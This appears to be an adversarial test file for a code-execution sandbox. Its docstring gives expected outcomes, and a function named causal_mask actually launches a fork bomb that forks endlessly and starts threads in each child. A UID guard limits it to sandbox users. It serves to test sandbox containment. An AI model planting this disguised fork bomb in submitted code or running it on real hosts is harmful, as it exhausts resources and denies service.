"""Forks without end, and starts threads in every fork.

levels: bubblewrap user
seconds: 1.5
checks: test_the_mask_fits_every_length
process: partly: counted every 20 ms
outcomes: crashed timed_out failed
"""

import os
import threading
import time

if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
    raise SystemExit("this attack runs inside a sandbox only")


def bomb():
    while True:
        try:
            if os.fork() == 0:
                threading.Thread(target=time.sleep, args=(60,)).start()
        except (OSError, RuntimeError):
            time.sleep(0.001)


def causal_mask(*args, **kwargs):
    bomb()
